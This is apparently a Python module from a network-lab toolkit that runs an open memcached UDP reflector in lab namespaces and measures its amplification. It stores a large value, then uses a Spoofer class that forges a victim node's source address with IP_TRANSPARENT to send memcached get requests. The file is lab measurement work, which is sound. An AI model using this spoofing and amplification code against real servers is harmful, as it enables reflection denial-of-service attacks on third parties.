"""An open memcached reflector in a lab node, and a spoofing client for it.

memcached runs with UDP on (-U; off by default since 1.5.6, CVE-2018-1000115) and listens
on one lab address only.  The spoofer is a UDP socket in one node bound to an address of
another (IP_TRANSPARENT), so its requests carry the victim's source address; they never
leave the lab's namespaces.  Counters read in-process: a link's transmit counters
(netlink) and a namespace's UDP OutDatagrams (/proc/net/snmp)."""
from __future__ import annotations

import socket
import struct
import time

from wirelab.errors import LabError
from wirelab.lab import netns
from wirelab.models import reflection as rf

IP_TRANSPARENT = 19


def start(lab, node: str, addr: str, port: int, max_item: str = "2m") -> list[str]:
    """Start memcached in NODE on ADDR:PORT (TCP and UDP); stopped with the lab."""
    argv = ["memcached", "-u", "root", "-l", addr, "-p", str(port), "-U", str(port), "-I", max_item,
            "-m", "64", "-t", "1"]
    proc = lab[node].popen(argv)
    lab.undo.push("stop memcached", lambda: (proc.kill(), proc.wait()))
    lab[node].wait_listening(port)
    return argv


def store(node, addr: str, port: int, key: str, value_bytes: int) -> None:
    """Set KEY to VALUE_BYTES bytes over TCP from NODE (an open memcached: anyone may)."""
    with node.socket() as c:
        c.connect((addr, port))
        c.sendall(f"set {key} 0 0 {value_bytes}\r\n".encode() + b"x" * value_bytes + b"\r\n")
        if (got := c.recv(64)) != b"STORED\r\n":
            raise LabError(f"memcached did not store a {value_bytes} B value: {got!r}")


class Spoofer:
    """UDP gets to TARGET from NODE, with SOURCE (an address of another node) as theirs."""

    def __init__(self, node, source: tuple[str, int], target: tuple[str, int], key: str):
        self.sock = node.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        self.sock.bind(source)
        self.target, self.key, self.rid = target, key, 0

    def get(self, keys: int = 1) -> None:
        self.rid = (self.rid + 1) & 0xFFFF
        frame = struct.pack("!HHHH", self.rid, 0, 1, 0)      # request id, sequence 0 of 1
        self.sock.sendto(frame + rf.request(self.key, keys), self.target)

    def close(self) -> None:
        self.sock.close()


def link_tx(node, toward: str) -> tuple[int, int]:
    """(tx_bytes, tx_packets) of NODE's interface toward TOWARD, frames with their headers."""
    st = node.ipr.get_links(ifname=node.egress(toward).name)[0].get_attr("IFLA_STATS64")
    return st["tx_bytes"], st["tx_packets"]


def udp_out(node) -> int:
    with netns.entered(node.ns), open("/proc/thread-self/net/snmp") as f:
        rows = [ln.split() for ln in f if ln.startswith("Udp:")]
    return int(dict(zip(rows[0], rows[1], strict=True))["OutDatagrams"])


def settled(node, toward: str, timeout_s: float = 20.0) -> tuple[int, int, int]:
    """NODE's (tx bytes, tx packets, UDP datagrams out) once they stop changing for 0.5 s."""
    last, still, deadline = None, time.monotonic(), time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        now = (*link_tx(node, toward), udp_out(node))
        if now != last:
            last, still = now, time.monotonic()
        elif time.monotonic() - still >= 0.5:
            return now
        time.sleep(0.05)
    raise LabError(f"{node.name} was still sending after {timeout_s:g} s")


def amplification(spoofer: Spoofer, sender, reflector, toward: str, keys: int) -> tuple[int, int, int]:
    """(bytes SENDER's link sent, bytes REFLECTOR's sent, datagrams it sent) for one get."""
    r0, s0 = settled(reflector, toward), link_tx(sender, toward)
    spoofer.get(keys)
    r1 = settled(reflector, toward)
    return link_tx(sender, toward)[0] - s0[0], r1[0] - r0[0], r1[2] - r0[2]
